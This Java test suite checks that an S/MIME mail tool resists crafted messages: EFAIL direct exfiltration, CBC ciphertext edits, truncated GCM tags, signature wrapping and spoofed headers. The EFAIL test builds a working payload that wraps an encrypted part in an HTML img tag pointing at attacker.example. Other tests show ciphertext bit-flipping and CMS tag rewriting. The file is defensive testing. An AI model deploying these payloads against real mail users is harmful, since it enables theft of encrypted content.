package org.signet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.function.BiFunction;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.ASN1InputStream;
import org.bouncycastle.asn1.ASN1OctetString;
import org.bouncycastle.asn1.ASN1Sequence;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Messages that somebody made to be read wrongly: EFAIL (CVE-2017-17688 and -17689) and its relatives, and those that only want to do harm. */
class HostileMessagesTest {
    private static final String SECRET = "The secret figures are 1, 2 and 3.\r\n";
    private static final String INSIDE = "Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET;

    @TempDir
    private static Path folder;

    private static Post post;
    private static Layers layers;

    @BeforeAll
    static void arrive() {
        post = Post.in(folder);
        layers = new Layers(post);
        post.mail("m.eml", "ada", "bob", SECRET);
        post.run("sign --in m.eml --out signed.eml AS:ada");
        post.run("encrypt --in m.eml --out cbc.eml --cert bob.pem --cipher cbc AS:ada");
    }

    private static String message(String from, String entity) {
        return Layers.message(from, entity);
    }

    private JsonNode report(String name) throws Exception {
        return new ObjectMapper()
                .readTree(post.run("verify TRUST AS:bob --json --in " + name).out());
    }

    private static List<String> warnings(JsonNode report) {
        return report.findParent("warnings").get("warnings").findValuesAsText("code");
    }

    /** Nothing of the secret comes out by any verb, and verify says no. */
    private void closed(String name) {
        for (String verb :
                List.of("decrypt TRUST AS:bob", "decrypt TRUST AS:bob --out out.eml", "show --text TRUST AS:bob")) {
            Ran ran = post.run(verb + " --in " + name);
            assertThat(ran.out() + ran.err()).as(verb).doesNotContain("secret").doesNotContain("did not foresee");
            assertThat(ran.code()).as(ran.err()).isIn(verb.startsWith("show") ? List.of(0, 2) : List.of(1, 2));
        }
        assertThat(post.run("verify TRUST AS:bob --in " + name).code()).isIn(1, 2);
        assertThat(post.files("")).noneMatch(file -> file.startsWith("out.") || file.startsWith(".signet"));
    }

    /** "Direct exfiltration": what is decrypted would be a piece of the attacker's HTML. */
    @ParameterizedTest
    @ValueSource(strings = {"mixed", "alternative", "related", "signed; protocol=\"application/pkcs7-signature\""})
    void anEncryptedPartBetweenOthersStaysClosed(String kind) throws Exception {
        byte[] cms = layers.cbc(Layers.latin(INSIDE), "bob");
        post.write("h.eml", message("mallory", """
                Content-Type: multipart/%s; boundary=b

                --b
                Content-Type: text/html

                <img src="http://attacker.example/
                --b
                %s
                --b
                Content-Type: text/html

                ">
                --b--
                """.formatted(kind, Layers.part("enveloped-data", cms))));
        closed("h.eml");
        if (kind.equals("mixed")) {
            assertThat(warnings(report("h.eml"))).contains("errant-layer");
            assertThat(report("h.eml").get("protection").asText()).isEqualTo("none");
        }
    }

    /** The same inside encryption: Bob is made to decrypt what he cannot see that it is another's. */
    @Test
    void anEncryptedAttachmentInsideAnotherEncryptionStaysClosed() throws Exception {
        byte[] stolen = layers.cbc(Layers.latin(INSIDE), "bob");
        byte[] outer = layers.cbc(
                Layers.latin("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nLook at this.\r\n--b\r\n"
                        + Layers.part("enveloped-data", stolen) + "--b--\r\n"),
                "bob");
        post.write("h.eml", message("mallory", Layers.part("enveloped-data", outer)));
        Ran ran = post.run("decrypt TRUST AS:bob --in h.eml");
        assertThat(ran.code()).isZero();
        assertThat(ran.out()).contains("Look at this").doesNotContain("secret");
        assertThat(warnings(report("h.eml"))).contains("errant-layer", "integrity-not-protected");
    }

    /** Another wraps what was encrypted by somebody else, and signs that: Bob is to answer to him. */
    @Test
    void whoSignsCiphertextIsNotItsAuthor() throws Exception {
        post.write(
                "h.eml",
                message(
                        "carol",
                        Layers.part(
                                "signed-data",
                                layers.signed(
                                        Layers.latin(
                                                Layers.part("enveloped-data", layers.cbc(Layers.latin(INSIDE), "bob"))),
                                        "carol"))));
        JsonNode report = report("h.eml");
        assertThat(report.get("verdicts").get("authenticity").asText()).isEqualTo("none");
        assertThat(report.get("protection").asText()).isEqualTo("encrypted");
        assertThat(warnings(report)).contains("signature-around-ciphertext", "integrity-not-protected");
        assertThat(post.run("verify TRUST AS:bob --in h.eml").code()).isEqualTo(1);
    }

    /** "CBC gadgets": every block of the ciphertext changed in turn. */
    @ParameterizedTest
    @CsvSource({"signed, false", "unsigned, true"})
    void editedCbcIsReleasedOnlyWhereNobodyCanTellAndThenWithTheWarning(String kind, boolean released) {
        byte[] content = Layers.latin(INSIDE.repeat(kind.equals("signed") ? 1 : 8));
        byte[] inside = kind.equals("signed")
                ? Layers.latin(Layers.part("signed-data", layers.signed(content, "ada")))
                : content;
        byte[] cms = layers.cbc(inside, "bob");
        int begin = cms.length - (inside.length / 16 + 1) * 16;
        // Not the last two blocks: there the padding tells.
        int step = kind.equals("signed") ? 16 * 7 : 16;
        // The header of the entity inside is known to the attacker, and is left whole here.
        for (int at = begin + 160; at < cms.length - 32; at += step) {
            byte[] edited = cms.clone();
            edited[at] ^= 4;
            post.write("h.eml", message("ada", Layers.part("enveloped-data", edited)));
            Ran ran = post.run("decrypt TRUST AS:bob --in h.eml");
            assertThat(ran.code()).as(at + ran.err()).isEqualTo(released ? 0 : 1);
            assertThat(ran.err()).contains("could have changed it unnoticed");
            if (!released) {
                assertThat(ran.out()).isEmpty();
            }
        }
    }

    /** The initialisation vector is edited so that the layer inside is not taken for one: its octets come out, and that nobody vouches for them. */
    @Test
    void aSignatureHiddenByAnEditIsNoSignature() throws Exception {
        String part = Layers.part("signed-data", layers.signed(Layers.latin(INSIDE), "ada"));
        byte[] cms = layers.cbc(Layers.latin(part), "bob");
        int vector = cms.length - (part.length() / 16 + 1) * 16 - 16;
        while (cms[vector - 1] != 16 || cms[vector - 2] != 4) {
            vector--;
        }
        String hidden = "X-Nothing-Type: ";
        for (int i = 0; i < 14; i++) {
            cms[vector + i] ^= (byte) (part.charAt(i) ^ hidden.charAt(i));
        }
        post.write("h.eml", message("ada", Layers.part("enveloped-data", cms)));
        JsonNode report = report("h.eml");
        assertThat(report.get("protection").asText()).isEqualTo("encrypted");
        assertThat(warnings(report)).contains("integrity-not-protected");
        assertThat(post.run("verify TRUST AS:bob --in h.eml").code()).isEqualTo(1);
    }

    /** GCM taken apart and put together with less of its tag. */
    @ParameterizedTest
    @ValueSource(ints = {0, 1, 4, 8, 11, 12, 15})
    void aTagCutShortOpensNothing(int octets) throws Exception {
        byte[] cms = layers.gcm(Layers.latin(INSIDE), "bob");
        post.write("h.p7m", rewritten(cms, (place, tag) -> Arrays.copyOf(tag, octets)));
        closed("h.p7m");
    }

    /** The last element of an AuthEnvelopedData is its tag. */
    private static byte[] rewritten(byte[] cms, BiFunction<Integer, byte[], byte[]> change) throws Exception {
        ASN1Sequence info = ASN1Sequence.getInstance(new ASN1InputStream(cms).readObject());
        ASN1Sequence data =
                ASN1Sequence.getInstance(org.bouncycastle.asn1.ASN1TaggedObject.getInstance(info.getObjectAt(1)), true);
        ASN1EncodableVector all = new ASN1EncodableVector();
        for (int i = 0; i < data.size(); i++) {
            all.add(
                    i < data.size() - 1
                            ? data.getObjectAt(i)
                            : new org.bouncycastle.asn1.DEROctetString(change.apply(
                                    i,
                                    ASN1OctetString.getInstance(data.getObjectAt(i))
                                            .getOctets())));
        }
        ASN1EncodableVector outer = new ASN1EncodableVector();
        outer.add(info.getObjectAt(0));
        outer.add(new org.bouncycastle.asn1.DERTaggedObject(true, 0, new org.bouncycastle.asn1.DERSequence(all)));
        return new org.bouncycastle.asn1.DERSequence(outer).getEncoded("DER");
    }

    /** What is changed about a signed message, and what is said of it. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            a changed octet                | content-changed  | bad     | none
            a third part                   | parts-outside    | none    | none
            a footer behind                | text-outside     | good    | signed
            a footer in the text           | content-changed  | bad     | none
            another's From                 | header-changed   | good    | signed
            stripped                       |                  | none    | none
            stripped, signed by another    | sender-mismatch  | good    | signed
            """)
    void whatSomebodyDidToASignedMessageIsTold(String what, String warning, String integrity, String protection)
            throws Exception {
        String good = post.text("signed.eml");
        String boundary = good.replaceAll("(?s).*boundary=\"?([^\"\\r;]+).*", "$1");
        String first = "--" + boundary + "\r\n";
        String last = "--" + boundary + "--";
        String part = "Content-Type: text/plain\r\n\r\nPay to Mallory.\r\n";
        String content = good.substring(good.indexOf(first) + first.length(), good.lastIndexOf("\r\n" + first));
        post.write(
                "h.eml",
                Layers.latin(
                        switch (what) {
                            case "a changed octet" -> good.replace("1, 2", "1, 4");
                            case "a third part" -> good.replace(last, first + part + last);
                            case "a footer behind" -> good + "\r\nScanned by nobody.\r\n";
                            case "a footer in the text" -> good.replace(SECRET, SECRET + "Scanned by nobody.\r\n");
                            case "another's From" -> good.replaceFirst("From: Ada <ada@", "From: Ada <mallory@");
                            case "stripped" ->
                                "Date: Mon, 2 Mar 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n" + content;
                            default ->
                                message("ada", Layers.part("signed-data", layers.signed(Layers.latin(content), "bob")));
                        }));
        JsonNode report = report("h.eml");
        assertThat(report.get("verdicts").get("integrity").asText()).isEqualTo(integrity);
        assertThat(report.get("protection").asText()).isEqualTo(protection);
        assertThat(warnings(report))
                .as(report.toPrettyString())
                .contains(warning == null ? new String[0] : new String[] {warning});
        assertThat(post.run("verify TRUST --in h.eml").code()).isEqualTo(what.contains("behind") ? 0 : 1);
    }

    /** What stands first is what is signed; a signature second. */
    @Test
    void aPartInFrontOfTheSignedOneClosesIt() {
        String good = post.text("signed.eml");
        String delimiter = good.replaceAll("(?s).*boundary=\"?([^\"\\r;]+).*", "--$1\r\n");
        post.write("h.eml", good.replaceFirst(delimiter, delimiter + "\r\nPay to Mallory.\r\n" + delimiter));
        closed("h.eml");
    }

    /** A copy of the header inside that nobody signed says only what the sender of the outer one likes. */
    @Test
    void anUnsignedCopyOfTheHeaderIsNotBelieved() throws Exception {
        String inside = "Content-Type: text/plain; hp=\"cipher\"\r\nFrom: ada@example.com\r\nSubject: Pay\r\n"
                + "HP-Outer: From: mallory@example.com\r\nHP-Outer: Subject: Figures\r\n\r\n" + SECRET;
        byte[] cms = layers.cbc(Layers.latin(inside), "bob");
        post.write("h.eml", message("mallory", Layers.part("enveloped-data", cms)));
        assertThat(warnings(report("h.eml"))).contains("unsigned-from");
        // Nor under a signature around it, of another.
        byte[] signed = layers.signed(Layers.latin(Layers.part("enveloped-data", cms)), "carol");
        post.write("h.eml", message("carol", Layers.part("signed-data", signed)));
        JsonNode report = report("h.eml");
        assertThat(warnings(report)).contains("unsigned-from");
        assertThat(report.get("headers").findValuesAsText("state"))
                .doesNotContain("signed-only", "signed-and-encrypted");
    }
}
